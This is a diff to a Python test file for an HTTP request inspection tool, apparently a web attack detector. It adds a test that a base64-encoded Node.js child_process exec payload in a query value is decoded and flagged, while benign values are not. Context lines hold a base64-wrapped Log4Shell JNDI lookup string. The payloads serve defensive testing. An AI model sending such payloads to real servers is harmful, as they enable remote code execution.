@@ -151,6 +151,19 @@ def test_multipart_declared_base64_part_and_filename() -> None:
     assert TRAVERSAL in by_rule and "filename" in by_rule[TRAVERSAL].evidence
 
 
+def test_whole_value_base64_text_is_inspected() -> None:
+    """A value that is entirely base64 of text (a Node.js payload an application decodes) is inspected as that
+    text too; base64-shaped words, hex ids and binary tokens are not decoded."""
+    node = base64.b64encode(b'require("child_process").exec("id")').decode()
+    hits = [d for d in inspect_http_request(get("/a?data=" + quote(node))) if d.rule == CODE]
+    assert hits and "(base64)" in hits[0].fields["http.location"]
+    benign = base64.b64encode(b"a perfectly ordinary sentence here").decode()
+    binary = base64.b64encode(bytes(range(200, 248))).decode()
+    for value in (benign, binary, "computeResources", "7fc88d5072a376907c3ada8171a650867447c297"):
+        assert not rules(get("/a?data=" + quote(value))), value
+        assert not rules(post(f'{{"{value}": "{value}"}}', "application/json")), value
+
+
 def test_data_uri_base64_is_decoded() -> None:
     inner = base64.b64encode(b"${jndi:ldap://x.example/a}").decode()
     assert LOG4SHELL in rules(get("/img?src=" + quote(f"data:text/plain;base64,{inner}")))
